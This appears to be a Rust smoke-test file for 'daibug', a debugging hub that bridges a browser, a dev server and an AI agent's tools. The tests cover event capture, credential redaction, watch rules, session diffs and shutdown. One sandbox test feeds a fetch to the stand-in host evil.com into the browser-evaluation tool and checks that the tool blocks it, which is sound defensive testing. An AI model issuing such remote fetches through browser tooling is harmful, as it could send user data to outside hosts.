// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

//! End-to-end smoke tests that spawn the real `daibug` binary and exercise
//! HTTP, WebSocket, and the stdio tool bridge together.

use std::time::Duration;

use futures_util::{SinkExt, StreamExt};
use serde_json::{json, Value};
use tokio_tungstenite::tungstenite::Message;

use daibug::hub::EVENT_RING_CAPACITY;
use daibug::redact::REDACTED;
use daibug::session::SESSION_VERSION;
use daibug_specs::DaibugProcess;

const TIMEOUT: Duration = Duration::from_secs(10);

type WsStream =
    tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>;

async fn connect_ws(daibug: &DaibugProcess) -> anyhow::Result<WsStream> {
    let url = daibug.resolved_ws_url().await?;
    let (ws, _) = tokio_tungstenite::connect_async(url).await?;
    Ok(ws)
}

/// Read frames until one satisfies `pred` (or time out).
async fn next_matching<F>(ws: &mut WsStream, pred: F) -> anyhow::Result<Value>
where
    F: Fn(&Value) -> bool,
{
    let deadline = tokio::time::Instant::now() + TIMEOUT;
    loop {
        let remaining = deadline
            .checked_duration_since(tokio::time::Instant::now())
            .ok_or_else(|| anyhow::anyhow!("timed out waiting for a matching frame"))?;
        let msg = tokio::time::timeout(remaining, ws.next())
            .await?
            .ok_or_else(|| anyhow::anyhow!("ws stream ended"))??;
        if let Message::Text(text) = msg {
            let v: Value = serde_json::from_str(&text)?;
            if pred(&v) {
                return Ok(v);
            }
        }
    }
}

async fn http_get(url: String) -> anyhow::Result<Value> {
    Ok(reqwest::get(url).await?.json().await?)
}

/// Poll an HTTP endpoint until `pred` holds on the response body.
async fn poll_until<F>(url: &str, pred: F) -> anyhow::Result<Value>
where
    F: Fn(&Value) -> bool,
{
    let client = reqwest::Client::new();
    let deadline = tokio::time::Instant::now() + TIMEOUT;
    loop {
        if tokio::time::Instant::now() > deadline {
            anyhow::bail!("condition never held for {url}");
        }
        if let Ok(resp) = client.get(url).send().await {
            if let Ok(v) = resp.json::<Value>().await {
                if pred(&v) {
                    return Ok(v);
                }
            }
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

// -- HTTP surface -------------------------------------------------------------

#[tokio::test]
async fn status_and_ports_report_the_resolved_pair() -> anyhow::Result<()> {
    let daibug = DaibugProcess::start("sleep 10")?;
    daibug.wait_ready(TIMEOUT).await?;

    let ports = http_get(format!("{}/ports", daibug.base_url())).await?;
    let http_port = ports["httpPort"].as_u64().unwrap_or_default();
    let ws_port = ports["wsPort"].as_u64().unwrap_or_default();
    assert_ne!(http_port, 0);
    assert_ne!(ws_port, 0);
    assert_ne!(http_port, ws_port);

    let status = http_get(format!("{}/status", daibug.base_url())).await?;
    assert_eq!(status["connectedClients"], 0);
    assert_eq!(status["isDevServerRunning"], true);

    Ok(())
}

#[tokio::test]
async fn dev_server_output_is_captured_as_events() -> anyhow::Result<()> {
    let daibug = DaibugProcess::start("echo smoke-marker")?;
    daibug.wait_ready(TIMEOUT).await?;

    let v = poll_until(&format!("{}/events", daibug.base_url()), |v| {
        v["events"].as_array().is_some_and(|events| {
            events.iter().any(|e| e["payload"]["message"] == "smoke-marker")
        })
    })
    .await?;
    assert!(v["total"].as_u64().unwrap_or(0) >= 1);

    Ok(())
}

#[tokio::test]
async fn connected_clients_tracks_ws_handshakes() -> anyhow::Result<()> {
    let daibug = DaibugProcess::start("sleep 10")?;
    daibug.wait_ready(TIMEOUT).await?;

    let ws = connect_ws(&daibug).await?;
    poll_until(&format!("{}/status", daibug.base_url()), |v| v["connectedClients"] == 1).await?;
    drop(ws);
    poll_until(&format!("{}/status", daibug.base_url()), |v| v["connectedClients"] == 0).await?;

    Ok(())
}

// -- WebSocket surface --------------------------------------------------------

#[tokio::test]
async fn console_filter_one_shot_arrives_on_connect() -> anyhow::Result<()> {
    let daibug = DaibugProcess::start("sleep 10")?;
    daibug.wait_ready(TIMEOUT).await?;

    let mut ws = connect_ws(&daibug).await?;
    let frame = next_matching(&mut ws, |v| v["type"] == "command").await?;
    assert_eq!(frame["command"], "set_console_filter");
    let include = frame["include"].as_array().cloned().unwrap_or_default();
    assert!(include.contains(&json!("error")));
    assert!(include.contains(&json!("warn")));
    assert!(include.contains(&json!("log")));

    Ok(())
}

#[tokio::test]
async fn events_broadcast_to_other_clients_without_backlog() -> anyhow::Result<()> {
    let daibug = DaibugProcess::start("sleep 10")?;
    daibug.wait_ready(TIMEOUT).await?;

    let mut producer = connect_ws(&daibug).await?;
    producer
        .send(Message::Text(
            json!({"type": "browser_event", "source": "browser:console", "level": "info",
                   "payload": {"message": "before-observer"}})
            .to_string()
            .into(),
        ))
        .await?;
    // Make sure the first event is ingested before the observer connects.
    poll_until(&format!("{}/events", daibug.base_url()), |v| v["total"] == 1).await?;

    let mut observer = connect_ws(&daibug).await?;
    producer
        .send(Message::Text(
            json!({"type": "browser_event", "source": "browser:console", "level": "info",
                   "payload": {"message": "after-observer"}})
            .to_string()
            .into(),
        ))
        .await?;

    // The observer sees only the second event; no historical backlog.
    let event = next_matching(&mut observer, |v| v["id"].is_string()).await?;
    assert_eq!(event["payload"]["message"], "after-observer");
    assert_eq!(event["source"], "browser:console");

    Ok(())
}

// -- Spec scenarios -----------------------------------------------------------

/// S1 — a login request is stored with credentials redacted.
#[tokio::test]
async fn redacted_login() -> anyhow::Result<()> {
    let daibug = DaibugProcess::start("sleep 10")?;
    daibug.wait_ready(TIMEOUT).await?;

    let mut ws = connect_ws(&daibug).await?;
    ws.send(Message::Text(
        json!({
            "type": "browser_event",
            "source": "browser:network",
            "level": "info",
            "payload": {
                "url": "/api/login",
                "method": "POST",
                "requestBody": {"username": "u@x.com", "password": "s"},
                "responseBody": {"token": "t"},
            },
        })
        .to_string()
        .into(),
    ))
    .await?;

    let v = poll_until(
        &format!("{}/events?source=browser:network", daibug.base_url()),
        |v| v["total"] == 1,
    )
    .await?;
    let payload = &v["events"][0]["payload"];
    assert_eq!(payload["requestBody"]["password"], REDACTED);
    assert_eq!(payload["responseBody"]["token"], REDACTED);
    assert_eq!(payload["requestBody"]["username"], "u@x.com");

    Ok(())
}

/// S2 — a configured watch rule catches a 401 and ignores a 200.
#[tokio::test]
async fn watch_match_from_config() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let config_path = dir.path().join("daibug.config.json");
    std::fs::write(
        &config_path,
        json!({
            "watch": [{"label": "auth failures", "statusCodes": [401], "urlPattern": "/api/**"}]
        })
        .to_string(),
    )?;

    let daibug = DaibugProcess::build()
        .args(&["--config", &config_path.to_string_lossy()])
        .spawn("sleep 10")?;
    daibug.wait_ready(TIMEOUT).await?;

    let mut ws = connect_ws(&daibug).await?;
    for (url, status) in [("/api/user", 401), ("/api/other", 200)] {
        ws.send(Message::Text(
            json!({
                "type": "browser_event",
                "source": "browser:network",
                "level": "info",
                "payload": {"url": url, "status": status},
            })
            .to_string()
            .into(),
        ))
        .await?;
    }

    poll_until(&format!("{}/events", daibug.base_url()), |v| v["total"] == 2).await?;
    let v = http_get(format!("{}/watched-events", daibug.base_url())).await?;
    let watched = v["events"].as_array().cloned().unwrap_or_default();
    assert_eq!(watched.len(), 1, "{v}");
    assert_eq!(watched[0]["matchedRule"]["label"], "auth failures");
    assert_eq!(watched[0]["event"]["payload"]["url"], "/api/user");

    Ok(())
}

/// S3 — snapshot_dom broadcasts a command and returns the correlated
/// response payload.
#[tokio::test]
async fn command_response_round_trip() -> anyhow::Result<()> {
    let mut daibug = DaibugProcess::build().mcp().spawn("sleep 10")?;
    daibug.wait_ready(TIMEOUT).await?;

    let mut ws = connect_ws(&daibug).await?;

    let browser = tokio::spawn(async move {
        let frame = next_matching(&mut ws, |v| v["command"] == "snapshot_dom").await?;
        assert_eq!(frame["type"], "command");
        ws.send(Message::Text(
            json!({
                "type": "browser_event",
                "source": "browser:dom",
                "level": "info",
                "payload": {"type": "dom_snapshot", "nodeCount": 142, "snapshot": "<html/>"},
            })
            .to_string()
            .into(),
        ))
        .await?;
        Ok::<(), anyhow::Error>(())
    });

    let result = daibug.call_tool("snapshot_dom", json!({})).await?;
    assert_eq!(result["type"], "dom_snapshot");
    assert_eq!(result["nodeCount"], 142);
    assert_eq!(result["snapshot"], "<html/>");

    browser.await??;
    Ok(())
}

/// S4 — a non-localhost fetch is rejected before any command goes out.
#[tokio::test]
async fn evaluation_sandbox_blocks_remote_fetch() -> anyhow::Result<()> {
    let mut daibug = DaibugProcess::build().mcp().spawn("sleep 10")?;
    daibug.wait_ready(TIMEOUT).await?;

    let mut ws = connect_ws(&daibug).await?;
    // Drain the per-connect console filter command first.
    next_matching(&mut ws, |v| v["command"] == "set_console_filter").await?;

    let result = daibug
        .call_tool("evaluate_in_browser", json!({"expression": "fetch('https://evil.com/x')"}))
        .await?;
    assert_eq!(
        result["error"],
        "Sandbox violation: network requests to non-localhost URLs are not allowed"
    );

    // No evaluate command reaches the browser.
    let got_frame = tokio::time::timeout(Duration::from_millis(400), ws.next()).await;
    match got_frame {
        Err(_) => {}
        Ok(None) => {}
        Ok(Some(frame)) => {
            let text = frame?.into_text()?;
            let v: Value = serde_json::from_str(&text)?;
            assert_ne!(v["command"], "evaluate", "sandboxed command was broadcast: {v}");
        }
    }

    Ok(())
}

/// S5 — two recorded sessions diff by first-seen network status.
#[tokio::test]
async fn session_diff_reports_status_change() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let path_a = dir.path().join("a.json");
    let path_b = dir.path().join("b.json");

    let mut daibug = DaibugProcess::build().mcp().spawn("sleep 10")?;
    daibug.wait_ready(TIMEOUT).await?;
    let mut ws = connect_ws(&daibug).await?;

    for (path, status) in [(&path_a, 200), (&path_b, 500)] {
        let started = daibug.call_tool("start_session", json!({})).await?;
        assert_eq!(started["started"], true);

        ws.send(Message::Text(
            json!({
                "type": "browser_event",
                "source": "browser:network",
                "level": "info",
                "payload": {"url": "/api/checkout", "status": status},
            })
            .to_string()
            .into(),
        ))
        .await?;
        poll_until(&format!("{}/events", daibug.base_url()), |v| v["total"] == 1).await?;

        let stopped = daibug.call_tool("stop_session", json!({})).await?;
        assert_eq!(stopped["stopped"], true);
        let exported = daibug
            .call_tool("export_session", json!({"path": path.to_string_lossy()}))
            .await?;
        assert_eq!(exported["exported"], true);
    }

    // The exported documents carry the session file format version.
    let exported: Value = serde_json::from_str(&std::fs::read_to_string(&path_a)?)?;
    assert_eq!(exported["version"], SESSION_VERSION);

    let diff = daibug
        .call_tool(
            "diff_sessions",
            json!({"pathA": path_a.to_string_lossy(), "pathB": path_b.to_string_lossy()}),
        )
        .await?;
    assert_eq!(diff["summary"]["identical"], false);
    assert_eq!(
        diff["networkDiff"]["statusDifferences"],
        json!([{"url": "/api/checkout", "statusA": 200, "statusB": 500}])
    );

    Ok(())
}

/// S6 — the event ring caps at 500, keeping the newest events.
#[tokio::test]
async fn ring_caps_at_500() -> anyhow::Result<()> {
    let daibug = DaibugProcess::start("sleep 30")?;
    daibug.wait_ready(TIMEOUT).await?;

    let ws = connect_ws(&daibug).await?;
    // Drain the broadcast echoes so this client never counts as slow.
    let (mut tx, mut rx) = ws.split();
    let drain = tokio::spawn(async move { while let Some(Ok(_)) = rx.next().await {} });

    let overflow = 100;
    let total = EVENT_RING_CAPACITY + overflow;
    for n in 0..total {
        tx.send(Message::Text(
            json!({
                "type": "browser_event",
                "source": "browser:console",
                "level": "info",
                "payload": {"index": n},
            })
            .to_string()
            .into(),
        ))
        .await?;
    }

    let url = format!("{}/events?limit={EVENT_RING_CAPACITY}", daibug.base_url());
    let v = poll_until(&url, |v| {
        v["events"].as_array().is_some_and(|events| {
            events.len() == EVENT_RING_CAPACITY
                && events.last().is_some_and(|e| e["payload"]["index"] == total - 1)
        })
    })
    .await?;
    let events = v["events"].as_array().cloned().unwrap_or_default();
    assert_eq!(events[0]["payload"]["index"], overflow);
    assert_eq!(events[EVENT_RING_CAPACITY - 1]["payload"]["index"], total - 1);

    drain.abort();
    Ok(())
}

// -- Tool discovery and shutdown ---------------------------------------------

#[tokio::test]
async fn tool_discovery_lists_the_full_surface() -> anyhow::Result<()> {
    let mut daibug = DaibugProcess::build().mcp().spawn("sleep 10")?;
    daibug.wait_ready(TIMEOUT).await?;

    let tools = daibug.list_tools().await?;
    let names: Vec<&str> = tools.iter().filter_map(|t| t["name"].as_str()).collect();
    for expected in ["get_events", "snapshot_dom", "add_watch_rule", "diff_sessions"] {
        assert!(names.contains(&expected), "missing {expected} in {names:?}");
    }

    Ok(())
}

#[tokio::test]
async fn exits_cleanly_when_the_agent_closes_stdin() -> anyhow::Result<()> {
    let mut daibug = DaibugProcess::build().mcp().spawn("sleep 30")?;
    daibug.wait_ready(TIMEOUT).await?;

    daibug.close_stdin();
    let status = daibug.wait_exit(TIMEOUT).await?;
    assert_eq!(status.code(), Some(0));

    Ok(())
}
